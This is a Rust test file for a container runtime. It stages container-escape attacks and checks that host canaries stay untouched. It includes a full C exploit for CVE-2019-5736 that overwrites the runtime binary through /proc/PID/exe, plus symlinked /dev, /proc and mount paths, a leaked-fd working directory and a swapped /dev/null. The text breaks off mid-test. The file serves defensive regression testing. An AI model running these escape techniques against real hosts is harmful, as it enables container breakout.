//! Attack tests: each plays the attacker against a real container (a hostile rootfs, a hostile
//! process inside, or a hostile command line) and checks that the host is untouched. They
//! touch only canaries inside the test's temp dir. Each test's comment names the defense and
//! how to switch it off to watch the test fail (docs/security.md lists the results).

mod common;

use common::*;
use serde_json::json;
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Runs `bin` (a runtime binary) with the test's `--root` and `args`.
fn rt_bin(env: &Env, bin: &Path, args: &[&str]) -> Out {
    let mut cmd = Command::new(bin);
    cmd.arg("--root").arg(&env.root).args(args);
    env.run_cmd(cmd, TIMEOUT)
}

/// Compiles a C program statically (the test rootfs has no libc), or None after printing why.
fn compile_static(env: &Env, name: &str, source: &str) -> Option<PathBuf> {
    let dir = env.scratch("cc");
    let src = dir.join(format!("{name}.c"));
    let out = dir.join(name);
    fs::write(&src, source).unwrap();
    match Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&out)
        .arg(&src)
        .output()
    {
        Ok(o) if o.status.success() => Some(out),
        Ok(o) => panic!(
            "gcc -static failed (install build-essential):\n{}",
            String::from_utf8_lossy(&o.stderr)
        ),
        Err(e) => {
            skip(&format!("no C compiler to build the attacker ({e})"));
            None
        }
    }
}

/// Waits until `path` exists (or `deadline` passes).
fn wait_for_file(path: &Path, limit: Duration) -> bool {
    let deadline = Instant::now() + limit;
    while Instant::now() < deadline {
        if path.exists() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

// ---------------------------------------------------------------------------------------
// CVE-2019-5736: the runtime binary overwritten through /proc/PID/exe.
// ---------------------------------------------------------------------------------------

/// The attacker, run as the container's process: it watches /proc for new processes, takes an
/// O_PATH handle on the /proc/PID/exe of every one it may open (that is not busybox or
/// itself), waits for that process to exit, then reopens the handle through /proc/self/fd/N
/// for writing and writes into it. It logs every step to /attack.log and stops when /stop
/// appears.
const ATTACKER_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static char seen[1 << 16];

static void overwrite(int pid, int fd, const char *target) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    int last = 0;
    for (;;) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = write(w, "#!/bin/sh\necho PWNED\n", 21);
            fprintf(logf, "reopen pid=%d target=%s wronly=ok write=%zd errno=%d\n", pid, target,
                    n, n < 0 ? errno : 0);
            if (n > 0)
                fprintf(logf, "WROTE pid=%d target=%s\n", pid, target);
            close(w);
            return;
        }
        last = errno;
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 4 || access("/stop", F_OK) == 0) {
            fprintf(logf, "reopen pid=%d target=%s wronly=failed errno=%d (%s)\n", pid, target,
                    last, strerror(last));
            return;
        }
        usleep(200);
    }
}

int main(void) {
    logf = fopen("/attack.log", "w");
    if (!logf)
        return 1;
    setvbuf(logf, NULL, _IOLBF, 0);
    fprintf(logf, "attacker pid=%d\n", getpid());
    int me = getpid();
    while (access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d)
            return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= (int)sizeof seen || seen[pid])
                continue;
            char p[64], target[512];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue; /* not dumpable yet (or gone): look again next round */
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(p, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            if (strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/attacker") == 0) {
                seen[pid] = 1;
                close(fd);
                continue;
            }
            seen[pid] = 1;
            fprintf(logf, "handle pid=%d target=%s\n", pid, target);
            overwrite(pid, fd, target);
            close(fd);
        }
        closedir(d);
    }
    fprintf(logf, "done\n");
    return 0;
}
"##;

/// A container process tries to overwrite the runtime binary through /proc/PID/exe while the
/// operator runs `exec`, and while a second container joining its pid namespace is `run`:
/// the container's /bin/sh is `#!/proc/self/exe`, so each of those execs runs the runtime's
/// own binary inside the container, dumpable. The runtime under test is a COPY of cella-runc
/// in the temp dir; its bytes must be unchanged.
///
/// Defense: `cella_core::sealed::ensure_sealed_exe` (create/run/exec re-exec from a sealed
/// memfd copy). Switch it off by commenting out its call in `crates/cella-cli/src/runc.rs`
/// (`main`): the attacker gets a handle on the host copy and rewrites it ("WROTE" in the log,
/// the bytes differ).
#[test]
fn runtime_binary_cannot_be_overwritten_through_proc_exe() {
    let Some(env) = Env::new() else { return };
    if cella_only("the attacker targets the runtime under test through a copy of cella-runc") {
        return;
    }
    let Some(attacker) = compile_static(&env, "attacker", ATTACKER_C) else {
        return;
    };
    let bindir = env.scratch("bin");
    let copy = bindir.join("cella-runc");
    fs::copy(runtime(), &copy).unwrap();
    let before = fs::read(&copy).unwrap();

    let mut b = env.bundle();
    let rootfs = b.rootfs();
    fs::copy(&attacker, rootfs.join("attacker")).unwrap();
    fs::remove_file(rootfs.join("bin/sh")).unwrap();
    fs::write(rootfs.join("bin/sh"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(rootfs.join("bin/sh"), fs::Permissions::from_mode(0o755)).unwrap();
    b.args(&["/attacker"]);
    b.write_config();
    rt_bin(
        &env,
        &copy,
        &["create", "--bundle", b.dir.to_str().unwrap(), &b.id],
    )
    .ok();
    rt_bin(&env, &copy, &["start", &b.id]).ok();
    assert!(
        wait_for_file(&rootfs.join("attack.log"), TIMEOUT),
        "the attacker did not start"
    );
    let pid = env.state(&b.id)["pid"].as_i64().unwrap();

    // The operator's commands: each runs the runtime's binary inside the container. The
    // attacker races a short-lived process, so go on (up to 20 times) until it has caught one.
    let handles = |p: &Path| {
        fs::read_to_string(p)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.starts_with("handle "))
            .count()
    };
    for i in 0..20 {
        let _ = rt_bin(&env, &copy, &["exec", &b.id, "sh", "-c", "true"]);
        std::thread::sleep(Duration::from_millis(300));
        if i >= 3 && handles(&rootfs.join("attack.log")) > 0 {
            break;
        }
    }
    let mut b2 = env.bundle();
    let r2 = b2.rootfs();
    fs::remove_file(r2.join("bin/sh")).unwrap();
    fs::write(r2.join("bin/sh"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(r2.join("bin/sh"), fs::Permissions::from_mode(0o755)).unwrap();
    b2.remove_namespace("pid")
        .set_namespace(json!({"type": "pid", "path": format!("/proc/{pid}/ns/pid")}));
    b2.args(&["sh"]);
    let caught = handles(&rootfs.join("attack.log"));
    for i in 0..10 {
        b2.write_config();
        let _ = rt_bin(
            &env,
            &copy,
            &["run", "--bundle", b2.dir.to_str().unwrap(), &b2.id],
        );
        let _ = env.rt(&["delete", "--force", &b2.id]);
        std::thread::sleep(Duration::from_millis(300));
        if i >= 1 && handles(&rootfs.join("attack.log")) > caught {
            break;
        }
    }
    fs::write(rootfs.join("stop"), "").unwrap();
    let deadline = Instant::now() + TIMEOUT;
    while env.status(&b.id) != "stopped" && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let log = fs::read_to_string(rootfs.join("attack.log")).unwrap();
    eprintln!("attack.log:\n{log}");
    let after = fs::read(&copy).unwrap();
    assert!(
        before == after,
        "the host's runtime binary was changed by the container:\n{log}"
    );
    assert!(
        !log.contains("WROTE"),
        "the attacker wrote through a handle:\n{log}"
    );
    // The attack really ran: the attacker held handles on the runtime's binary as the
    // container saw it (the sealed copy), from both the exec and the run path.
    assert!(
        handles(&rootfs.join("attack.log")) >= 1,
        "the attacker never got a handle on a runtime process, so the test proved nothing:\n{log}"
    );
    env.rt(&["delete", "--force", &b.id]).ok();
}

// ---------------------------------------------------------------------------------------
// Paths in a hostile rootfs: /dev, mount destinations, /proc and /sys as symlinks.
// ---------------------------------------------------------------------------------------

/// A canary directory on the host, with one file; [`assert_canary_dir`] checks it later.
fn canary_dir(env: &Env, name: &str) -> PathBuf {
    let d = env.scratch(name);
    fs::write(d.join("keep"), "canary").unwrap();
    d
}

/// The canary is exactly as made: one file, same content, nothing mounted on or under it.
#[track_caller]
fn assert_canary_dir(d: &Path) {
    let mut names: Vec<String> = fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["keep"],
        "host canary {} was written to",
        d.display()
    );
    assert_eq!(fs::read_to_string(d.join("keep")).unwrap(), "canary");
    assert!(
        mounts_under(d).is_empty(),
        "mounts on the host canary: {:?}",
        mounts_under(d)
    );
}

/// Drops the spec mounts at or under `/dev` (so the image's own /dev is used as it is).
fn remove_dev_mounts(b: &mut Bundle) {
    b.config_mut()["mounts"]
        .as_array_mut()
        .unwrap()
        .retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"));
}

/// The image's /dev is an absolute symlink to a host directory (CVE-2026-41579 class: device
/// nodes and /dev links written on the host), with and without a tmpfs mounted on /dev.
///
/// Defense: every /dev path goes through `resolve::mkdir_all_open` / `open_in_root`
/// (openat2 RESOLVE_IN_ROOT, O_NOFOLLOW per created component), so the symlink resolves
/// inside the rootfs. Switch it off by making `resolve::open_in_root` use
/// `ResolveFlags::empty()` instead of `IN_ROOT | NO_MAGICLINKS`: device nodes appear in the
/// canary.
#[test]
fn dev_symlink_in_image_cannot_reach_the_host() {
    let Some(env) = Env::new() else { return };
    for dev_mount in [true, false] {
        let canary = canary_dir(&env, &format!("canary-dev-{dev_mount}"));
        let mut b = env.bundle();
        fs::remove_dir_all(b.rootfs().join("dev")).unwrap();
        symlink(&canary, b.rootfs().join("dev")).unwrap();
        if !dev_mount {
            remove_dev_mounts(&mut b);
        }
        b.sh("test -c /dev/null && test -c /dev/zero && echo devices-ok");
        let out = env.run(&b);
        eprintln!("{out}");
        assert_canary_dir(&canary);
        if out.success() {
            assert!(out.stdout.contains("devices-ok"), "{out}");
        }
        env.assert_no_leaks(&b);
    }
}

/// Mount destinations that are symlinks in the image: an absolute one to a host directory
/// and a relative one climbing out with `..` (CVE-2021-30465 class).
///
/// Defense: `rootfs::mount` attaches to an fd from `resolve::mkdir_all_open` (RESOLVE_IN_ROOT).
/// Switch off as for the /dev test: the tmpfs and the bind land on the canaries in the init's
/// mount namespace (seen by a createRuntime hook in the init's mountinfo).
#[test]
fn mount_destination_symlinks_stay_in_the_rootfs() {
    let Some(env) = Env::new() else { return };
    let canary_abs = canary_dir(&env, "canary-abs");
    let canary_rel = canary_dir(&env, "canary-rel");
    let source = env.scratch("bind-source");
    fs::write(source.join("from-bind"), "x").unwrap();
    let mut b = env.bundle();
    let mnt = b.rootfs().join("mnt");
    fs::create_dir_all(&mnt).unwrap();
    symlink(&canary_abs, mnt.join("abs")).unwrap();
    let up = "../".repeat(40);
    symlink(
        format!(
            "{up}{}",
            canary_rel.to_str().unwrap().trim_start_matches('/')
        ),
        mnt.join("rel"),
    )
    .unwrap();
    b.add_mount(
        json!({"destination": "/mnt/abs", "type": "tmpfs", "source": "tmpfs",
                       "options": ["size=1m"]}),
    );
    b.add_mount(json!({"destination": "/mnt/rel", "type": "bind",
                       "source": source.to_str().unwrap(), "options": ["rbind"]}));
    b.add_mount(json!({"destination": "/mnt/abs/sub", "type": "tmpfs", "source": "tmpfs"}));
    // The init's mount namespace is private, so a mount on a host path there never shows on
    // the host; but before pivot_root it would shadow host paths for the runtime's own later
    // steps (hooks run from host paths). A createRuntime hook looks at the init's mounts.
    let seen = env.tmp.join("init-mounts");
    b.config_mut()["hooks"] = json!({"createRuntime": [{
        "path": "/bin/sh",
        "args": ["sh", "-c", format!(
            "pid=$(sed -n 's/.*\"pid\": *\\([0-9]*\\).*/\\1/p'); \
             grep -F canary- /proc/$pid/mountinfo > {0}; echo pid=$pid >> {0}",
            seen.display())]
    }]});
    b.sh("touch /mnt/abs/written /mnt/rel/written; ls /mnt/abs /mnt/rel");
    let out = env.run(&b);
    eprintln!("{out}");
    assert_canary_dir(&canary_abs);
    assert_canary_dir(&canary_rel);
    let seen = fs::read_to_string(&seen).unwrap_or_default();
    assert!(
        !seen.contains("canary-"),
        "the init mounted onto host paths: {seen}"
    );
    if out.success() {
        assert!(out.stdout.contains("from-bind"), "{out}");
    }
    env.assert_no_leaks(&b);
}

/// /proc and /sys of the image are symlinks to host directories (CVE-2025-52881 class: the
/// runtime's later /proc writes redirected). cella refuses to mount procfs or sysfs through
/// a symlink, names the destination, and leaves nothing behind.
///
/// Defense: `rootfs::refuse_symlink`. Switch it off by making it return `Ok(())`: create
/// succeeds (procfs lands inside the rootfs at the link's target), so the assertion on the
/// error fails.
#[test]
fn proc_and_sys_symlinks_are_refused() {
    let Some(env) = Env::new() else { return };
    for dir in ["proc", "sys"] {
        let canary = canary_dir(&env, &format!("canary-{dir}"));
        let mut b = env.bundle();
        fs::remove_dir_all(b.rootfs().join(dir)).unwrap();
        symlink(&canary, b.rootfs().join(dir)).unwrap();
        b.sh("true");
        let out = env.create(&b);
        out.failed()
            .stderr_mentions(&[&format!("/{dir}"), "symlink"]);
        assert_canary_dir(&canary);
        env.assert_no_leaks(&b);
    }
}

// ---------------------------------------------------------------------------------------
// CVE-2024-21626: a leaked host fd as the working directory.
// ---------------------------------------------------------------------------------------

/// Whether `ls` output of a cwd shows the host's /proc (this test process's pid in it).
fn shows_host_proc(stdout: &str) -> bool {
    let me = std::process::id().to_string();
    stdout.lines().any(|l| l.trim() == me)
}

/// process.cwd = /proc/self/fd/N for many N, at create and at exec: the process must never
/// start with a host directory (e.g. the runtime's fd of the host /proc) as its cwd.
///
/// Defenses: at create, `resolve::mkdir_all_open` of the cwd (RESOLVE_IN_ROOT |
/// NO_MAGICLINKS) before pivot_root; at both, `init::verify_cwd_inside_root` after chdir.
/// Switch off the exec one by removing the `verify_cwd_inside_root` call in exec.rs: an
/// exec with one of the N lists the host's /proc.
#[test]
fn cwd_through_proc_self_fd_never_reaches_the_host() {
    let Some(env) = Env::new() else { return };
    for n in 3..12 {
        let mut b = env.bundle();
        b.config_mut()["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        b.sh("ls");
        let out = env.run(&b);
        assert!(!shows_host_proc(&out.stdout), "cwd fd {n} escaped:\n{out}");
        env.assert_no_leaks(&b);
    }
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    env.create_start(&b);
    let mut escaped = Vec::new();
    let mut refused = 0;
    for n in 3..20 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = env.rt(&["exec", "--cwd", &cwd, &b.id, "ls"]);
        if shows_host_proc(&out.stdout) {
            escaped.push(format!("{out}"));
        }
        if !out.success() {
            refused += 1;
        }
    }
    assert!(
        escaped.is_empty(),
        "exec cwd escaped:\n{}",
        escaped.join("\n")
    );
    assert!(refused > 0, "no /proc/self/fd/N cwd was refused");
    env.rt(&["delete", "--force", &b.id]).ok();
}

// ---------------------------------------------------------------------------------------
// CVE-2025-31133 class: masking with a /dev/null the image controls.
// ---------------------------------------------------------------------------------------

/// The image's /dev/null is swapped, after the runtime made its devices and before it masks
/// paths (the race of CVE-2025-31133, played here deterministically by a createRuntime hook),
/// for a symlink to a host canary file or for a regular file with content; no tmpfs on /dev,
/// so the image's /dev is the one used. Masked paths must still be the real character device
/// 1:3 (empty), and the canary untouched.
///
/// Defense: `rootfs::open_dev_null` takes the host's /dev/null before any container mount
/// and verifies it is 1:3; masking binds that fd. Switch it off by binding
/// `openat(rootfd, "dev/null")` (the image's, following symlinks) in `rootfs::mask_paths`
/// instead of the verified fd: the masked files show the canary's or the fake content.
#[test]
fn masking_never_uses_the_images_dev_null() {
    let Some(env) = Env::new() else { return };
    let canary = env.scratch("canary-null").join("file");
    fs::write(&canary, "canary").unwrap();
    for variant in ["symlink", "file"] {
        let mut b = env.bundle();
        remove_dev_mounts(&mut b);
        let null = b.rootfs().join("dev/null");
        let swap = match variant {
            "symlink" => format!("rm -f {0}; ln -s {1} {0}", null.display(), canary.display()),
            _ => format!("rm -f {0}; echo FAKE-NULL > {0}", null.display()),
        };
        b.config_mut()["hooks"] = json!({"createRuntime": [{
            "path": "/bin/sh", "args": ["sh", "-c", swap]
        }]});
        fs::write(b.rootfs().join("etc/secret"), "SECRET").unwrap();
        b.config_mut()["linux"]["maskedPaths"]
            .as_array_mut()
            .unwrap()
            .push(json!("/etc/secret"));
        b.sh("cat /etc/secret /proc/keys; stat -c 'type=%F dev=%t:%T' /etc/secret /proc/keys");
        let out = env.run(&b);
        eprintln!("{out}");
        assert_eq!(fs::read_to_string(&canary).unwrap(), "canary");
        assert!(mounts_under(canary.parent().unwrap()).is_empty());
        for bad in ["SECRET", "FAKE-NULL", "canary"] {
            assert!(!out.stdout.contains(bad), "{variant}: {bad} shown:\n{out}");
        }
        out.ok();
        assert_eq!(
            out.stdout
                .matches("type=character special file dev=1:3")
                .count(),
            2,
            "{out}"
        );
        env.assert_no_leaks(&b);
    }
}

// ---------------------------------------------------------------------------------------
// fd hygiene.
// ---------------------------------------------------------------------------------------

/// The fd numbers open in `pid`, sorted.
fn fds_of(pid: i32) -> Vec<i32> {
    let mut v: Vec<i32> = fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .collect();
    v.sort();
    v
}

/// A runtime command with fds 3..=7 open (not close-on-exec), each a distinct file.
fn rt_with_fds(env: &Env, args: &[&str]) -> Out {
    let dir = env.scratch("fds");
    let files: Vec<fs::File> = (3..=7)
        .map(|n| fs::File::create(dir.join(format!("fd{n}"))).unwrap())
        .collect();
    let raw: Vec<i32> = files.iter().map(std::os::fd::AsRawFd::as_raw_fd).collect();
    let mut cmd = Command::new(runtime());
    cmd.arg("--root").arg(&env.root).args(args);
    // SAFETY: only dup2 (async-signal-safe) in the child between fork and exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut cmd, move || {
            for (i, fd) in raw.iter().enumerate() {
                // dup to a high number first, so the targets 3..=7 cannot clobber a source.
                let tmp = libc::fcntl(*fd, libc::F_DUPFD, 100 + i as i32);
                if tmp < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            for i in 0..raw.len() {
                if libc::dup2(100 + i as i32, 3 + i as i32) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
    let out = env.run_cmd(cmd, TIMEOUT);
    drop(files);
    out
}

/// Only 0, 1, 2 and exactly the preserved fds reach the container process, at create and at
/// exec, however many fds the runtime itself was given or opened.
///
/// Defense: `init::final_exec` marks every fd above 3+preserve_fds close-on-exec
/// (close_range CLOSE_RANGE_CLOEXEC) and every fd cella opens is O_CLOEXEC. Switch it off
/// by removing the close_range call: fds 5..=7 (and the runtime's own) leak in.
#[test]
fn only_stdio_and_preserved_fds_reach_the_container() {
    let Some(env) = Env::new() else { return };
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    b.write_config();
    let pidfile = env.tmp.join("init.pid");
    rt_with_fds(
        &env,
        &[
            "create",
            "--bundle",
            b.dir.to_str().unwrap(),
            "--preserve-fds",
            "2",
            "--pid-file",
            pidfile.to_str().unwrap(),
            &b.id,
        ],
    )
    .ok();
    env.start(&b.id).ok();
    let pid: i32 = fs::read_to_string(&pidfile)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert_eq!(fds_of(pid), [0, 1, 2, 3, 4]);
    for (n, want) in [(3, "fd3"), (4, "fd4")] {
        let target = fs::read_link(format!("/proc/{pid}/fd/{n}")).unwrap();
        assert!(target.ends_with(want), "fd {n} is {}", target.display());
    }
    let exec_pid = env.tmp.join("exec.pid");
    rt_with_fds(
        &env,
        &[
            "exec",
            "--detach",
            "--preserve-fds",
            "1",
            "--pid-file",
            exec_pid.to_str().unwrap(),
            &b.id,
            "sleep",
            "100",
        ],
    )
    .ok();
    let epid: i32 = fs::read_to_string(&exec_pid)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert_eq!(fds_of(epid), [0, 1, 2, 3]);
    // Without --preserve-fds: nothing beyond stdio.
    let exec_pid2 = env.tmp.join("exec2.pid");
    rt_with_fds(
        &env,
        &[
            "exec",
            "--detach",
            "--pid-file",
            exec_pid2.to_str().unwrap(),
            &b.id,
            "sleep",
            "100",
        ],
    )
    .ok();
    let epid2: i32 = fs::read_to_string(&exec_pid2)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert_eq!(fds_of(epid2), [0, 1, 2]);
    env.rt(&["delete", "--force", &b.id]).ok();
}

// ---------------------------------------------------------------------------------------
// seccomp: errno and kill actions, argument filters, the notify round trip.
// ---------------------------------------------------------------------------------------

/// The container's syscalls are filtered as the spec says: mkdir fails with the profile's
/// errnoRet (EDQUOT), sethostname kills the (forked) process with SIGSYS, kill(2) with signal
/// SIGUSR1 is refused by an argument filter while kill -0 passes.
///
/// Defense: cella-seccomp's filter, loaded by `init::drop_privileges`/`final_exec`. Switch it
/// off by skipping `f.load()` in both places: mkdir succeeds, hostname fails with EPERM, and SIGUSR1 kills
/// the shell.
#[test]
fn seccomp_errno_kill_and_argument_filters() {
    let Some(env) = Env::new() else { return };
    let mut b = env.bundle();
    b.config_mut()["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
        "syscalls": [
            {"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 122},
            {"names": ["sethostname"], "action": "SCMP_ACT_KILL_PROCESS"},
            {"names": ["kill"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1,
             "args": [{"index": 1, "value": 10, "op": "SCMP_CMP_EQ"}]}
        ]
    });
    b.sh(
        "mkdir /blocked 2>&1; echo mkdir=$?; (hostname evil); echo hostname=$?; \
         kill -USR1 $$ 2>&1; echo usr1=$?; kill -0 $$; echo zero=$?",
    );
    let out = env.run(&b);
    let s = &out.stdout;
    assert!(
        s.contains("Disk quota exceeded") && s.contains("mkdir=1"),
        "{out}"
    );
    assert!(
        s.contains("hostname=159"),
        "sethostname did not kill with SIGSYS:\n{out}"
    );
    assert!(s.contains("usr1=1") && s.contains("zero=0"), "{out}");
    assert!(!b.rootfs().join("blocked").exists());
    env.assert_no_leaks(&b);
}

/// SCMP_ACT_NOTIFY: the runtime sends the listener fd, with the container process state
/// (listenerMetadata included), to a seccomp agent written here; the agent answers the
/// container's mkdir with EXDEV, which the container sees.
///
/// Defense/feature: cella-seccomp's notify hand-off (`send_listener`). Switch it off by not
/// sending the fd (skip the `SeccompFd` message in `init::drop_privileges`): the agent is
/// never contacted and the test fails after 20 s.
#[test]
fn seccomp_notify_round_trip_with_an_agent() {
    use std::io::{IoSliceMut, Read};
    use std::mem::MaybeUninit;
    use std::os::fd::{AsRawFd, OwnedFd};
    use std::os::unix::net::UnixListener;

    let Some(env) = Env::new() else { return };
    let sock = env.tmp.join("agent.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    listener.set_nonblocking(true).unwrap();
    let agent = std::thread::spawn(move || -> Result<(String, i32, u64), String> {
        let deadline = Instant::now() + Duration::from_secs(20);
        let mut stream = loop {
            match listener.accept() {
                Ok((s, _)) => break s,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    if Instant::now() > deadline {
                        return Err("the runtime never connected to the agent".into());
                    }
                    std::thread::sleep(Duration::from_millis(10));
                }
                Err(e) => return Err(e.to_string()),
            }
        };
        stream.set_nonblocking(false).map_err(|e| e.to_string())?;
        let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
        let mut cmsg = rustix::net::RecvAncillaryBuffer::new(&mut space);
        let mut buf = vec![0u8; 65536];
        let got = rustix::net::recvmsg(
            &stream,
            &mut [IoSliceMut::new(&mut buf)],
            &mut cmsg,
            rustix::net::RecvFlags::CMSG_CLOEXEC,
        )
        .map_err(|e| e.to_string())?;
        let mut text = buf[..got.bytes].to_vec();
        let mut fd: Option<OwnedFd> = None;
        for m in cmsg.drain() {
            if let rustix::net::RecvAncillaryMessage::ScmRights(mut fds) = m {
                fd = fds.next();
            }
        }
        stream.read_to_end(&mut text).map_err(|e| e.to_string())?;
        let fd = fd.ok_or("no fd received")?;
        // struct seccomp_notif (80 bytes) and seccomp_notif_resp (24 bytes), linux/seccomp.h.
        const RECV: libc::c_ulong = 0xc050_2100; // SECCOMP_IOCTL_NOTIF_RECV
        const SEND: libc::c_ulong = 0xc018_2101; // SECCOMP_IOCTL_NOTIF_SEND
        let mut pfd = [libc::pollfd {
            fd: fd.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        }];
        // SAFETY: poll on one valid pollfd.
        if unsafe { libc::poll(pfd.as_mut_ptr(), 1, 20_000) } != 1 {
            return Err("no notification within 20s".into());
        }
        let mut notif = [0u64; 10];
        // SAFETY: the ioctl writes one zeroed 80-byte seccomp_notif.
        if unsafe { libc::ioctl(fd.as_raw_fd(), RECV, notif.as_mut_ptr()) } != 0 {
            return Err(format!("NOTIF_RECV: {}", std::io::Error::last_os_error()));
        }
        let id = notif[0];
        let pid = (notif[1] & 0xffff_ffff) as i32;
        let nr = notif[2] & 0xffff_ffff;
        // id, val = 0, error = -EXDEV, flags = 0
        let resp: [u64; 3] = [id, 0, (-libc::EXDEV) as u32 as u64];
        // SAFETY: the ioctl reads one 24-byte seccomp_notif_resp.
        if unsafe { libc::ioctl(fd.as_raw_fd(), SEND, resp.as_ptr()) } != 0 {
            return Err(format!("NOTIF_SEND: {}", std::io::Error::last_os_error()));
        }
        Ok((String::from_utf8_lossy(&text).into_owned(), pid, nr))
    });
    let mut b = env.bundle();
    b.config_mut()["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "listenerPath": sock.to_str().unwrap(),
        "listenerMetadata": "agent-metadata-42",
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_NOTIFY"}]
    });
    b.sh("mkdir /notified 2>&1; echo mkdir=$?");
    let out = env.run(&b);
    let (state, pid, nr) = agent.join().unwrap().expect("the agent");
    assert!(out.stdout.contains("Invalid cross-device link"), "{out}");
    assert!(
        state.contains("agent-metadata-42") && state.contains(&b.id),
        "{state}"
    );
    assert!(state.contains("seccompFd"), "{state}");
    assert!(pid > 0);
    assert!(
        nr == libc::SYS_mkdir as u64 || nr == libc::SYS_mkdirat as u64,
        "nr {nr}"
    );
    assert!(!b.rootfs().join("notified").exists());
    env.assert_no_leaks(&b);
}

// ---------------------------------------------------------------------------------------
// Capabilities as read by the process itself.
// ---------------------------------------------------------------------------------------

fn caps_of(status: &str) -> std::collections::BTreeMap<String, u64> {
    cap_lines(status).into_iter().collect()
}

/// The five sets in /proc/self/status are exactly the spec's, at create and at exec; no
/// inheritable (or ambient) capability unless asked; an unknown name is an error.
///
/// Defense: `caps::CapSets` (one capset; inheritable only from the spec). Switch it off by
/// applying the permitted set as inheritable in `CapSets::apply_rest` (the CVE-2022-29162
/// mistake): CapInh is no longer 0.
#[test]
fn capability_sets_are_exactly_the_specs() {
    let Some(env) = Env::new() else { return };
    let default = cap_mask(&DEFAULT_CAPS);
    let mut b = env.bundle();
    b.args(&["sleep", "100"]);
    env.create_start(&b);
    let pid = env.state(&b.id)["pid"].as_i64().unwrap();
    let init = caps_of(&fs::read_to_string(format!("/proc/{pid}/status")).unwrap());
    let exec = env.rt(&["exec", &b.id, "cat", "/proc/self/status"]);
    exec.ok();
    let exec = caps_of(&exec.stdout);
    for (who, c) in [("init", &init), ("exec", &exec)] {
        assert_eq!(c["CapInh"], 0, "{who}: {c:x?}");
        assert_eq!(c["CapAmb"], 0, "{who}: {c:x?}");
        assert_eq!(c["CapPrm"], default, "{who}: {c:x?}");
        assert_eq!(c["CapEff"], default, "{who}: {c:x?}");
        assert_eq!(c["CapBnd"], default, "{who}: {c:x?}");
    }
    env.rt(&["delete", "--force", &b.id]).ok();

    // Asked for: inheritable and ambient exactly as given.
    let mut b = env.bundle();
    b.config_mut()["process"]["capabilities"]["inheritable"] = json!(["CAP_KILL"]);
    b.config_mut()["process"]["capabilities"]["ambient"] = json!(["CAP_KILL"]);
    b.args(&["cat", "/proc/self/status"]);
    let c = caps_of(&env.run_ok(&b));
    assert_eq!(c["CapInh"], cap_bit("CAP_KILL"), "{c:x?}");
    assert_eq!(c["CapAmb"], cap_bit("CAP_KILL"), "{c:x?}");

    // Unknown names are an error naming the field and the name.
    let mut b = env.bundle();
    b.config_mut()["process"]["capabilities"]["bounding"] = json!(["CAP_KILL", "CAP_BOGUS"]);
    env.create(&b).failed().stderr_mentions(&["CAP_BOGUS"]);
    env.assert_no_leaks(&b);
}

// ---------------------------------------------------------------------------------------
// Container ids.
// ---------------------------------------------------------------------------------------

/// Ids that are paths, control characters or too long are refused by every command, and
/// `delete --force ..` (which Debian's crun turns into removing a directory outside its
/// state root) touches nothing. The ids used with destructive commands resolve, if the
/// check were gone, only inside this test's temp dir (never `/`).
///
/// Defense: `id::validate`, called by every state-root entry point. Switch it off by making
/// `validate` return `Ok(())`: `delete --force ..` removes the test's temp dir contents
/// (the canary) and `create ../escape` makes a directory outside the state root.
#[test]
fn bad_ids_are_refused_and_touch_nothing() {
    let Some(env) = Env::new() else { return };
    let canary = canary_dir(&env, "canary-ids");
